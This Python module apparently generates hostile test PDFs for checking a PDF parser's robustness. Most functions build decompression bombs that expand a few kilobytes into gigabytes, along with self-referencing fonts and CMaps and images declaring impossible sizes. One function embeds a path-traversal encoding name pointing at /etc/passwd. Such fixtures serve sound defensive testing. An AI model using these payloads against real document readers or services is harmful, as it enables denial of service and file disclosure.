"""PDFs of a few kilobytes that become gigabytes when they are read."""

import zlib

from tools.hostile.structures import SMALL
from tools.hostile.writing import FONT, deflate, one_page, page_objects, write_pdf, write_stream

GIGABYTE = 1_000_000_000
_SHOW = b"BT /F 10 Tf 50 700 Td (text) Tj ET"


def _zeros(size: int, wbits: int = zlib.MAX_WBITS) -> bytes:
    """So many zeros, compressed without ever being there."""
    made, out = zlib.compressobj(9, wbits=wbits), bytearray()
    piece = bytes(1_000_000)
    for _ in range(size // len(piece)):
        out += made.compress(piece)
    return bytes(out + made.flush())


def flate_bomb() -> bytes:
    """1 MB that becomes 1 GB."""
    return write_pdf(page_objects(write_stream(_zeros(GIGABYTE), b"/Filter/FlateDecode")))


def nested_flate_bomb() -> bytes:
    """5 kB that become 4 GB."""
    data = zlib.compress(_zeros(4 * GIGABYTE), 9)
    return write_pdf(page_objects(write_stream(data, b"/Filter[/FlateDecode/FlateDecode]")))


def flate_of_flates() -> bytes:
    """One filter named 10,000 times."""
    return write_pdf(
        {**SMALL, 4: write_stream(zlib.compress(b"q"), b"/Filter[%b]" % (b"/Fl " * 10_000))}
    )


def run_length_bomb() -> bytes:
    """Runs of 128 bytes, compressed: 8 MB of runs that become half a gigabyte."""
    runs = zlib.compress(b"\x81 " * 4_000_000, 9)
    return write_pdf({**SMALL, 4: write_stream(runs, b"/Filter[/FlateDecode/RunLengthDecode]")})


def ascii85_bomb() -> bytes:
    """Each z becomes four zeros."""
    data = zlib.compress(b"z" * 100_000_000 + b"~>", 9)
    return write_pdf({**SMALL, 4: write_stream(data, b"/Filter[/FlateDecode/ASCII85Decode]")})


def lzw_bomb() -> bytes:
    data = zlib.compress(bytes(20_000_000), 9)
    return write_pdf({**SMALL, 4: write_stream(data, b"/Filter[/FlateDecode/LZWDecode]")})


def predictor_bomb() -> bytes:
    """Rows of two thousand million columns."""
    entries = b"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 2000000000/Colors 4>>"
    return write_pdf({**SMALL, 4: write_stream(zlib.compress(bytes(1000)), entries)})


def content_of_many_streams() -> bytes:
    """One content stream of 1 MB that a page names a thousand times."""
    objects = dict(page_objects(deflate(b"q Q " * 250_000)))
    objects[3] = objects[3].replace(b"4 0 R", b"[" + b"4 0 R " * 1000 + b"]")
    return write_pdf(objects)


def object_stream_bomb() -> bytes:
    data = _zeros(GIGABYTE)
    body = write_stream(data, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")
    return write_pdf({**SMALL, 10: body}).replace(b"startxref", b"startxre_")


def font_bomb() -> bytes:
    """A font program of 1 GB."""
    descriptor = b"<</Type/FontDescriptor/FontName/X/Flags 4/FontFile 11 0 R>>"
    font = (
        b"<</Type/Font/Subtype/Type1/BaseFont/X/FirstChar 0/LastChar 0/Widths[1]"
        b"/FontDescriptor 10 0 R>>"
    )
    program = write_stream(_zeros(GIGABYTE), b"/Filter/FlateDecode/Length1 1000000000")
    return one_page(_SHOW, {9: font, 10: descriptor, 11: program})


def _type0(more: dict[int, bytes], entries: bytes = b"", width: bytes = b"") -> bytes:
    """A page in a font of two-byte codes."""
    font = (
        b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H"
        b"/DescendantFonts[10 0 R]%b>>" % entries
    )
    inner = (
        b"<</Type/Font/Subtype/CIDFontType2/BaseFont/X/DW 1000%b/FontDescriptor 11 0 R"
        b"/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>>>" % width
    )
    descriptor = b"<</Type/FontDescriptor/FontName/X/Flags 4>>"
    content = b"BT /F 10 Tf 50 700 Td <00410042> Tj ET"
    return one_page(content, {9: font, 10: inner, 11: descriptor, **more})


def _with_map(cmap: bytes) -> bytes:
    body = b"/CIDInit /ProcSet findresource begin begincmap\n%b\nendcmap end" % cmap
    return _type0({12: deflate(body)}, b"/ToUnicode 12 0 R")


def cmap_of_all_codes() -> bytes:
    """One line of a CMap that maps four thousand million codes."""
    return _with_map(b"1 beginbfrange <00000000> <ffffffff> <0041> endbfrange")


def cmap_of_giant_cids() -> bytes:
    body = b"1 begincidrange <00000000> <ffffffff> 0 endcidrange"
    cmap = b"begincmap\n%b\nendcmap" % body
    font = b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding 12 0 R/DescendantFonts[10 0 R]>>"
    return _type0({9: font, 12: deflate(cmap, entries=b"/Type/CMap/CMapName/X")})


def cmap_of_many_ranges() -> bytes:
    """A thousand ranges, each of two-byte codes."""
    ranges = b"<0000> <ffff> <0041>\n" * 1000
    return _with_map(b"1000 beginbfrange %b endbfrange" % ranges)


def cmap_that_uses_itself() -> bytes:
    font = b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding 12 0 R/DescendantFonts[10 0 R]>>"
    cmap = b"/X usecmap begincmap endcmap"
    entries = b"/Type/CMap/CMapName/X/UseCMap 12 0 R"
    return _type0({9: font, 12: deflate(cmap, entries=entries)})


def cmap_of_another_file() -> bytes:
    """An encoding whose name leads out of the folder that CMaps are looked up in."""
    font = (
        b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/..#2f..#2f..#2fetc#2fpasswd"
        b"/DescendantFonts[10 0 R]>>"
    )
    return _type0({9: font})


def cmap_of_long_texts() -> bytes:
    """Each code is a text of 10,000 characters, and the page shows 20,000 of them."""
    cmap = b"1 beginbfchar <0041> <%b> endbfchar" % (b"0041" * 10_000)
    font = (
        b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H"
        b"/DescendantFonts[10 0 R]/ToUnicode 12 0 R>>"
    )
    inner = (
        b"<</Type/Font/Subtype/CIDFontType2/BaseFont/X/DW 1000/FontDescriptor 11 0 R"
        b"/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>>>"
    )
    descriptor = b"<</Type/FontDescriptor/FontName/X/Flags 4>>"
    content = b"BT /F 1 Tf 50 700 Td <%b> Tj ET" % (b"0041" * 20_000)
    return one_page(content, {9: font, 10: inner, 11: descriptor, 12: deflate(cmap)})


def giant_widths() -> bytes:
    """One width for two thousand million glyphs."""
    return _type0({}, width=b"/W[0 2000000000 500]")


def giant_simple_widths() -> bytes:
    font = FONT.replace(b">>", b"/FirstChar 0/LastChar 2000000000/Widths[500]>>")
    return one_page(_SHOW, {9: font.replace(b"Helvetica", b"X")})


def font_without_anything() -> bytes:
    return one_page(_SHOW, {9: b"<</Type/Font/Subtype/Type0>>"})


def font_of_itself() -> bytes:
    return one_page(_SHOW, {9: b"<</Type/Font/Subtype/Type0/BaseFont/X/DescendantFonts[9 0 R]>>"})


def many_fonts() -> bytes:
    """A page whose resources name a hundred thousand fonts, of which it uses one."""
    names = b"".join(b"/F%d 9 0 R" % number for number in range(100_000))
    return one_page(b"BT /F1 10 Tf (x) Tj ET", resources=b"<</Font<<%b>>>>" % names)


def many_fonts_of_their_own() -> bytes:
    names = b"".join(b"/F%d %b" % (number, FONT) for number in range(20_000))
    return one_page(b"BT /F1 10 Tf (x) Tj ET", resources=b"<</Font<<%b>>>>" % names)


def _image(entries: bytes, data: bytes) -> bytes:
    image = write_stream(data, b"/Type/XObject/Subtype/Image" + entries)
    return one_page(b"q 595 0 0 842 0 0 cm /I Do Q", {10: image}, b"<</XObject<</I 10 0 R>>>>")


def image_bomb() -> bytes:
    """A picture of 30,000 × 30,000 pixels in colour, 2.7 GB, from 2.6 MB."""
    entries = (
        b"/Width 30000/Height 30000/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode"
    )
    return _image(entries, _zeros(2_700_000_000))


def image_of_promised_size() -> bytes:
    """A picture that says it has four thousand million pixels, and has none."""
    entries = (
        b"/Width 65000/Height 65000/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode"
    )
    return _image(entries, zlib.compress(b"\xff"))


def jpeg_of_promised_size() -> bytes:
    frame = bytes.fromhex("ffd8ffc0000b08ffffffff01011100ffd9")
    entries = b"/Width 65535/Height 65535/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/DCTDecode"
    return _image(entries, frame)


def fax_of_promised_size() -> bytes:
    entries = (
        b"/Width 60000/Height 60000/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/CCITTFaxDecode"
        b"/DecodeParms<</K -1/Columns 60000/Rows 60000>>"
    )
    return _image(entries, bytes(100))
